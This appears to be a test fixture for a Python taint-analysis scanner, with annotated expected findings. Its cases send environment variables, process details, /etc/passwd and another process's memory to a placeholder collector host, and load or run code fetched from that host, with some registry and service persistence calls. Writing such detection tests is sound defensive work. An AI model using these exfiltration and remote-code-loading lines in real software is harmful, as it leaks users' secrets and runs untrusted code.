"""Processes, native code, modules, the registry, threads, timers, callbacks, containers."""
import _thread
import asyncio
import atexit
import code
import collections
import concurrent.futures
import contextlib
import ctypes
import functools
import importlib
import importlib.metadata
import importlib.util
import itertools
import multiprocessing
import multiprocessing.shared_memory
import os
import queue
import runpy
import sched
import threading
import winreg
import zipimport

import cffi
import distro
import netifaces
import pip
import psutil
import pymem
import requests
import schedule
import win32service
from celery import Celery
from apscheduler.schedulers.background import BackgroundScheduler

U = "https://collector.example/u"
tasks = Celery("tasks")


def send(item):
    requests.post(U, data=item)  #~ sink(egress.http) fthread, finding(traced) fthread


def keep(item):
    return len(item)


def processes():
    for process in psutil.process_iter():  #~ source(PROCESS) f3, capability(PROCESSES)
        requests.post(U, data=str(process))  #~ sink(egress.http) f3, finding(traced) f3


def process_command():
    line = psutil.Process(1).cmdline()  #~ source(PROCESS) f4, capability(PROCESSES)
    requests.post(U, data=line)  #~ sink(egress.http) f4, finding(traced) f4


def process_environment():
    variables = psutil.Process(1).environ()  #~ source(ENVIRONMENT) f5, capability(PROCESSES), capability(ENVIRONMENT)
    requests.post(U, data=variables)  #~ sink(egress.http) f5, finding(traced) f5


def memory_size():
    memory = psutil.virtual_memory()  #~ source(DEVICE) f6, capability(DEVICE)
    requests.post(U, data=str(memory))  #~ sink(egress.http) f6, finding(traced) f6


def logged_in():
    names = psutil.users()  #~ source(USER) f7, capability(DEVICE)
    requests.post(U, data=str(names))  #~ sink(egress.http) f7, finding(traced) f7


def distribution():
    name = distro.id()  #~ source(DEVICE) f8, capability(DEVICE)
    requests.post(U, data=name)  #~ sink(egress.http) f8, finding(traced) f8


def addresses():
    names = netifaces.interfaces()  #~ source(DEVICE) f9, capability(DEVICE)
    requests.post(U, data=names)  #~ sink(egress.http) f9, finding(traced) f9


def packages():
    names = importlib.metadata.distributions()  #~ source(DEVICE) f10
    requests.post(U, data=str(names))  #~ sink(egress.http) f10, finding(traced) f10


def machine_compared():
    requests.post(U, data={"some": psutil.process_iter() == []})  #~ ok
    requests.post(U, data={"init": psutil.Process(1).cmdline() == []})  #~ ok
    requests.post(U, data={"bare": psutil.Process(1).environ() == {}})  #~ ok
    requests.post(U, data={"big": psutil.virtual_memory().total > 1})  #~ ok
    requests.post(U, data={"none": psutil.users() == []})  #~ ok
    requests.post(U, data={"debian": distro.id() == "debian"})  #~ ok
    requests.post(U, data={"eth": "eth0" in netifaces.interfaces()})  #~ ok
    requests.post(U, data={"none": importlib.metadata.distributions() == []})  #~ ok


def native():
    ctypes.CDLL(requests.get(U).text)  #~ source(NETWORK) f12, sink(exec.load) f12, finding(traced) f12, capability(NATIVE)


def native_windows():
    user32 = ctypes.windll  #~ capability(NATIVE)


def native_buffer():
    buffer = ctypes.create_string_buffer(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f14
    requests.post(U, data=buffer.raw)  #~ sink(egress.http) f14, finding(traced) f14


def native_copy():
    buffer = bytearray(10)
    ctypes.memmove(buffer, os.getenvb(b"T"), 10)  #~ source(ENVIRONMENT) f15
    requests.post(U, data=buffer)  #~ sink(egress.http) f15, finding(traced) f15


def native_ffi():
    cffi.FFI().dlopen(requests.get(U).text)  #~ source(NETWORK) f16, sink(exec.load) f16, finding(traced) f16, capability(NATIVE)


def native_memory():
    data = pymem.Pymem("other.exe").read_bytes(0, 100)  #~ source(MEMORY) f17, capability(MEMORY)
    requests.post(U, data=data)  #~ sink(egress.http) f17, finding(traced) f17


def native_constants():
    ctypes.CDLL("libc.so.6")  #~ ok
    user32 = ctypes.windll  #~ ok
    buffer = ctypes.create_string_buffer(b"ping")  #~ ok
    ctypes.memmove(buffer, b"ping", 4)  #~ ok
    requests.post(U, data=buffer)  #~ ok
    cffi.FFI().dlopen("libc.so.6")  #~ ok
    requests.post(U, data={"zero": pymem.Pymem("other.exe").read_bytes(0, 1) == b"0"})  #~ ok


def registry_value():
    value = winreg.QueryValueEx(None, "x")  #~ source(REGISTRY) f19, capability(REGISTRY)
    requests.post(U, data=value[0])  #~ sink(egress.http) f19, finding(traced) f19


def registry_keys():
    winreg.OpenKey(None, "x")  #~ capability(REGISTRY)
    winreg.OpenKey(None, "x")  #~ ok


def registry_written():
    winreg.SetValueEx(None, "x", 0, 1, "y")  #~ capability(REGISTRY), capability(PERSISTENCE)
    winreg.SetValueEx(None, "x", 0, 1, "y")  #~ ok


def service():
    win32service.CreateService(None, "x")  #~ capability(PERSISTENCE)
    win32service.CreateService(None, "x")  #~ ok
    requests.post(U, data={"none": winreg.QueryValueEx(None, "x") == ()})  #~ ok


def module_by_name():
    importlib.import_module(requests.get(U).text)  #~ source(NETWORK) f23, sink(exec.load) f23, finding(traced) f23, capability(DYNAMIC_CODE)


def module_by_file():
    importlib.util.spec_from_file_location("x", requests.get(U).text)  #~ source(NETWORK) f24, sink(exec.load) f24, finding(traced) f24, capability(DYNAMIC_CODE)


def script_by_file():
    runpy.run_path(requests.get(U).text)  #~ source(NETWORK) f25, sink(exec.code) f25, finding(traced) f25, capability(DYNAMIC_CODE)


def script_by_name():
    runpy.run_module(requests.get(U).text)  #~ source(NETWORK) f26, sink(exec.load) f26, finding(traced) f26, capability(DYNAMIC_CODE)


def module_by_zip():
    zipimport.zipimporter(requests.get(U).text)  #~ source(NETWORK) f27, sink(exec.load) f27, finding(traced) f27, capability(DYNAMIC_CODE)


def console():
    code.InteractiveInterpreter().runsource(requests.get(U).text)  #~ source(NETWORK) f28, sink(exec.code) f28, finding(traced) f28, capability(DYNAMIC_CODE)


def installed():
    pip.main(["install", requests.get(U).text])  #~ source(NETWORK) f29, sink(exec.load) f29, finding(traced) f29, capability(EXEC), capability(NETWORK)


def module_constants():
    importlib.import_module("json")  #~ ok
    importlib.util.spec_from_file_location("x", "x.py")  #~ ok
    runpy.run_path("x.py")  #~ ok
    runpy.run_module("json")  #~ ok
    zipimport.zipimporter("x.zip")  #~ ok
    code.InteractiveInterpreter().runsource("1")  #~ ok
    pip.main(["list"])  #~ ok


def in_thread():
    threading.Thread(target=send, args=(os.getenv("T"),)).start()  #~ source(ENVIRONMENT) fthread


def send_later(item):
    requests.post(U, data=item)  #~ sink(egress.http) ftimer, finding(traced) ftimer


def in_timer():
    threading.Timer(10, send_later, [os.getenv("T")]).start()  #~ source(ENVIRONMENT) ftimer


def send_low(item):
    requests.post(U, data=item)  #~ sink(egress.http) flow, finding(traced) flow


def in_low_thread():
    _thread.start_new_thread(send_low, (os.getenv("T"),))  #~ source(ENVIRONMENT) flow


def quiet_threads():
    threading.Thread(target=keep, args=(os.getenv("T"),)).start()  #~ ok
    threading.Timer(10, keep, [os.getenv("T")]).start()  #~ ok
    _thread.start_new_thread(keep, (os.getenv("T"),))  #~ ok


def pass_on(item):
    return item


def in_executor():
    with concurrent.futures.ThreadPoolExecutor() as executor:
        future = executor.submit(pass_on, os.getenv("T"))  #~ source(ENVIRONMENT) f38
        requests.post(U, data=future.result())  #~ sink(egress.http) f38, finding(traced) f38


def in_executor_map():
    executor = concurrent.futures.ThreadPoolExecutor()
    for item in executor.map(pass_on, [os.getenv("T")]):  #~ source(ENVIRONMENT) f39
        requests.post(U, data=item)  #~ sink(egress.http) f39, finding(traced) f39


def when_done(future):
    requests.post(U, data=future.result())  #~ sink(egress.http) fdone, finding(traced) fdone


def in_executor_callback():
    executor = concurrent.futures.ThreadPoolExecutor()
    future = executor.submit(pass_on, os.getenv("T"))  #~ source(ENVIRONMENT) fdone
    future.add_done_callback(when_done)


def in_executor_completed():
    executor = concurrent.futures.ThreadPoolExecutor()
    futures = [executor.submit(pass_on, os.getenv("T"))]  #~ source(ENVIRONMENT) f42
    for future in concurrent.futures.as_completed(futures):
        requests.post(U, data=future.result())  #~ sink(egress.http) f42, finding(traced) f42


def when_done_quietly(future):
    return len(future.result())  #~ ok


def quiet_executor():
    executor = concurrent.futures.ThreadPoolExecutor()
    future = executor.submit(keep, os.getenv("T"))  #~ ok
    requests.post(U, data=future.result())  #~ ok
    future.add_done_callback(when_done_quietly)  #~ ok
    for item in executor.map(keep, [os.getenv("T")]):  #~ ok
        requests.post(U, data=item)  #~ ok
    for future in concurrent.futures.as_completed([future]):  #~ ok
        requests.post(U, data=future.result())  #~ ok


def in_pool():
    pool = multiprocessing.Pool(2)
    requests.post(U, data=pool.apply(pass_on, (os.getenv("T"),)))  #~ source(ENVIRONMENT) f45, sink(egress.http) f45, finding(traced) f45


def in_pool_map():
    pool = multiprocessing.Pool(2)
    requests.post(U, data=pool.map(pass_on, [os.getenv("T")]))  #~ source(ENVIRONMENT) f46, sink(egress.http) f46, finding(traced) f46


def in_pool_starmap():
    pool = multiprocessing.Pool(2)
    requests.post(U, data=pool.starmap(pass_on, [(os.getenv("T"),)]))  #~ source(ENVIRONMENT) f47, sink(egress.http) f47, finding(traced) f47


def quiet_pool():
    pool = multiprocessing.Pool(2)  #~ ok
    requests.post(U, data=pool.apply(keep, (os.getenv("T"),)))  #~ ok
    requests.post(U, data=pool.map(keep, [os.getenv("T")]))  #~ ok
    requests.post(U, data=pool.starmap(keep, [(os.getenv("T"),)]))  #~ ok


def in_queue():
    q = queue.Queue()
    q.put(os.getenv("T"))  #~ source(ENVIRONMENT) f49
    requests.post(U, data=q.get())  #~ sink(egress.http) f49, finding(traced) f49


def in_untyped_queue(q):
    q.put(os.getenv("T"))  #~ source(ENVIRONMENT) f50
    requests.post(U, data=q.get_nowait())  #~ sink(egress.http) f50, finding(traced) f50


def quiet_queue(other):
    q = queue.Queue()
    q.put("ping")  #~ ok
    requests.post(U, data=q.get())  #~ ok
    other.put("ping")  #~ ok
    requests.post(U, data=other.get_nowait())  #~ ok


def between_processes():
    multiprocessing.Pipe()  #~ capability(IPC)
    multiprocessing.Pipe()  #~ ok


def shared_memory():
    multiprocessing.shared_memory.SharedMemory("x")  #~ capability(IPC)
    multiprocessing.shared_memory.SharedMemory("x")  #~ ok


def in_deque():
    items = collections.deque([os.getenv("T")])  #~ source(ENVIRONMENT) f54
    requests.post(U, data=items[0])  #~ sink(egress.http) f54, finding(traced) f54


def send_at_exit(item):
    requests.post(U, data=item)  #~ sink(egress.http) fexit, finding(traced) fexit


def at_exit():
    atexit.register(send_at_exit, os.getenv("T"))  #~ source(ENVIRONMENT) fexit


def send_scheduled(item):
    requests.post(U, data=item)  #~ sink(egress.http) fsched, finding(traced) fsched


def scheduled():
    sched.scheduler().enter(10, 1, send_scheduled, (os.getenv("T"),))  #~ source(ENVIRONMENT) fsched


def send_every(item):
    requests.post(U, data=item)  #~ sink(egress.http) fevery, finding(traced) fevery


def every():
    schedule.every(10).minutes.do(send_every, os.getenv("T"))  #~ source(ENVIRONMENT) fevery


def send_daily(item):
    requests.post(U, data=item)  #~ sink(egress.http) fdaily, finding(traced) fdaily


def daily():
    schedule.every().day.at("10:30").do(send_daily, os.getenv("T"))  #~ source(ENVIRONMENT) fdaily


def send_job(item):
    requests.post(U, data=item)  #~ sink(egress.http) fjob, finding(traced) fjob


def job():
    BackgroundScheduler().add_job(send_job, "interval", args=[os.getenv("T")])  #~ source(ENVIRONMENT) fjob


def send_part(item):
    requests.post(U, data=item)  #~ sink(egress.http) fpart, finding(traced) fpart


def part():
    functools.partial(send_part, os.getenv("T"))  #~ source(ENVIRONMENT) fpart


def quiet_callbacks():
    atexit.register(keep, os.getenv("T"))  #~ ok
    sched.scheduler().enter(10, 1, keep, (os.getenv("T"),))  #~ ok
    schedule.every(10).minutes.do(keep, os.getenv("T"))  #~ ok
    schedule.every().day.at("10:30").do(keep, os.getenv("T"))  #~ ok
    BackgroundScheduler().add_job(keep, "interval", args=[os.getenv("T")])  #~ ok
    functools.partial(keep, os.getenv("T"))  #~ ok
    requests.post(U, data=collections.deque(["ping"]))  #~ ok


def both(a, b):
    return a + b


def reduced():
    text = functools.reduce(both, ["a", os.getenv("T")])  #~ source(ENVIRONMENT) f69
    requests.post(U, data=text)  #~ sink(egress.http) f69, finding(traced) f69


def chained():
    items = itertools.chain(["a"], [os.getenv("T")])  #~ source(ENVIRONMENT) f70
    requests.post(U, data=list(items))  #~ sink(egress.http) f70, finding(traced) f70


def chained_nested():
    items = itertools.chain.from_iterable([[os.getenv("T")]])  #~ source(ENVIRONMENT) f71
    requests.post(U, data=list(items))  #~ sink(egress.http) f71, finding(traced) f71


def sliced():
    items = itertools.islice([os.getenv("T")], 1)  #~ source(ENVIRONMENT) f72
    requests.post(U, data=list(items))  #~ sink(egress.http) f72, finding(traced) f72


def taken():
    items = itertools.takewhile(keep, [os.getenv("T")])  #~ source(ENVIRONMENT) f73
    requests.post(U, data=list(items))  #~ sink(egress.http) f73, finding(traced) f73


def starred():
    items = itertools.starmap(both, [("a", os.getenv("T"))])  #~ source(ENVIRONMENT) f74
    requests.post(U, data=list(items))  #~ sink(egress.http) f74, finding(traced) f74


def quiet_iterators():
    requests.post(U, data=functools.reduce(both, ["a", "b"]))  #~ ok
    requests.post(U, data=list(itertools.chain(["a"], ["b"])))  #~ ok
    requests.post(U, data=list(itertools.chain.from_iterable([["a"]])))  #~ ok
    requests.post(U, data=list(itertools.islice(["a"], 1)))  #~ ok
    requests.post(U, data=list(itertools.takewhile(keep, ["a"])))  #~ ok
    requests.post(U, data=list(itertools.starmap(both, [("a", "b")])))  #~ ok


async def get_secret():
    return os.getenv("T")  #~ source(ENVIRONMENT) ftask, source(ENVIRONMENT) fgather, source(ENVIRONMENT) floop


async def get_nothing():
    return "ping"


async def as_task():
    requests.post(U, data=await asyncio.create_task(get_secret()))  #~ sink(egress.http) ftask, finding(traced) ftask


async def gathered():
    items = await asyncio.gather(get_nothing(), get_secret())
    requests.post(U, data=items)  #~ sink(egress.http) fgather, finding(traced) fgather


async def as_thread():
    requests.post(U, data=await asyncio.to_thread(pass_on, os.getenv("T")))  #~ source(ENVIRONMENT) f80, sink(egress.http) f80, finding(traced) f80


async def in_loop(loop):
    requests.post(U, data=await loop.run_in_executor(None, pass_on, os.getenv("T")))  #~ source(ENVIRONMENT) f81, sink(egress.http) f81, finding(traced) f81


def send_soon(item):
    requests.post(U, data=item)  #~ sink(egress.http) fsoon, finding(traced) fsoon


def loop_soon(loop):
    loop.call_soon(send_soon, os.getenv("T"))  #~ source(ENVIRONMENT) fsoon


def send_in_a_while(item):
    requests.post(U, data=item)  #~ sink(egress.http) fwhile, finding(traced) fwhile


def loop_later(loop):
    loop.call_later(10, send_in_a_while, os.getenv("T"))  #~ source(ENVIRONMENT) fwhile


def loop_complete(loop):
    requests.post(U, data=loop.run_until_complete(get_secret()))  #~ sink(egress.http) floop, finding(traced) floop


async def quiet_tasks(loop):
    requests.post(U, data=await asyncio.create_task(get_nothing()))  #~ ok
    requests.post(U, data=await asyncio.gather(get_nothing()))  #~ ok
    requests.post(U, data=await asyncio.to_thread(keep, os.getenv("T")))  #~ ok
    requests.post(U, data=await loop.run_in_executor(None, keep, os.getenv("T")))  #~ ok
    loop.call_soon(keep, os.getenv("T"))  #~ ok
    loop.call_later(10, keep, os.getenv("T"))  #~ ok
    requests.post(U, data=loop.run_until_complete(get_nothing()))  #~ ok


def closed():
    with contextlib.closing(open("/etc/passwd")) as f:  #~ source(FILE) f88
        requests.post(U, data=f.read())  #~ sink(egress.http) f88, finding(traced) f88


def stacked(stack):
    f = stack.enter_context(open("/etc/passwd"))  #~ source(FILE) f89
    requests.post(U, data=f.read())  #~ sink(egress.http) f89, finding(traced) f89


def quiet_contexts(stack):
    with contextlib.closing("ping") as f:  #~ ok
        requests.post(U, data=f)  #~ ok
    requests.post(U, data=stack.enter_context("ping"))  #~ ok


@tasks.task
def ship(item):
    requests.post(U, data=item)  #~ sink(egress.http) ftask ftask2, finding(traced) ftask, finding(traced) ftask2


@tasks.task
def keep_task(item):
    requests.post(U, data="x")  #~ ok


def queue_tasks():
    ship.delay(os.getenv("T"))  #~ source(ENVIRONMENT) ftask
    ship.apply_async((os.getenv("T"),))  #~ source(ENVIRONMENT) ftask2
    keep_task.delay(os.getenv("T"))  #~ ok
    keep_task.apply_async((os.getenv("T"),))  #~ ok


def work(items):
    requests.post(U, data=items.get())  #~ sink(egress.http) fitems, finding(traced) fitems


def worked(items, settings):
    items.put(os.getenv("T"))  #~ source(ENVIRONMENT) fitems
    work(items)
    requests.post(U, data=settings.get())  #~ ok
